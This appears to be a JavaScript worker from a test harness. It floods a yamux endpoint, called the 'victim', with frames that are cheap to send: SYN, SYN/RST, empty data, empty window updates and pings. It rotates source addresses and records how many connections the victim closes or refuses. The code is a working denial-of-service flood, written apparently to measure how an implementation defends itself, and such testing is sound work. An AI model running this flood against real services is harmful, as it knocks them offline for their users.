// Floods of yamux frames that cost their sender nothing.
import { answer, settings } from '../lib/answer.mjs'
import { sleep } from '../lib/statistics.mjs'
import { Wire } from '../lib/wire.mjs'
import { DATA, headers, PING, RST, SYN, WINDOW } from '../../wirekit/yamux.mjs'

const { host, port, addresses } = settings
// One write of the attacker, 60 KB: it stops soon after the victim has closed.
const BATCH = 5000

const kinds = {
  SYN: i => ({ type: WINDOW, flags: SYN, id: 2 * i + 1 }),
  'SYN and RST': i => ({ type: WINDOW, flags: i % 2 === 0 ? SYN : RST, id: 2 * Math.floor(i / 2) + 1 }),
  'empty data': i => (i === 0 ? { type: WINDOW, flags: SYN, id: 1 } : { type: DATA, flags: 0, id: 1 }),
  'empty updates': i => (i === 0 ? { type: WINDOW, flags: SYN, id: 1 } : { type: WINDOW, flags: 0, id: 1 }),
  pings: i => ({ type: PING, flags: SYN, id: 0, length: i })
}
let nextAddress = 0

/** Sends on one connection until it is closed, at most `limit` frames. */
async function floodOnce(kind, limit) {
  const wire = await Wire.connect({ host, port, from: addresses[nextAddress++ % addresses.length] })
  await wire.secure({ own: true })
  wire.onBytes = () => {}
  const began = performance.now()
  let sent = 0
  while (sent < limit && wire.goneAt === undefined) {
    const count = Math.min(BATCH, limit - sent)
    const first = sent
    wire.send(headers(count, i => kinds[kind](first + i)))
    sent += count
    await wire.drained()
  }
  const closed = await Promise.race([wire.gone.then(at => at - began), sleep(5000)])
  wire.close()
  return { sent, closedMs: closed }
}

answer({
  ready() {},
  /**
   * Sends `frames` in all, over as many connections as that takes and spread over `ms`: each at full speed, until the
   * victim closes it. How many connections there were, how many the victim closed, and the longest that took (ms from the
   * first frame).
   */
  async flood({ kind, frames, ms, maxConnections }) {
    const began = performance.now()
    let sent = 0
    let connections = 0
    let closed = 0
    let refused = 0
    let slowestMs = 0
    while ((sent < frames || performance.now() < began + ms) && connections < maxConnections) {
      connections++
      try {
        const result = await floodOnce(kind, frames)
        sent += result.sent
        if (result.closedMs !== undefined) closed++
        slowestMs = Math.max(slowestMs, result.closedMs ?? 0)
      } catch {
        // Not let in any more, which is an answer too.
        refused++
      }
      await sleep(Math.max(0, began + ms * Math.min(1, sent / frames) - performance.now()))
    }
    return { sent, connections, closed, refused, slowestMs }
  }
})
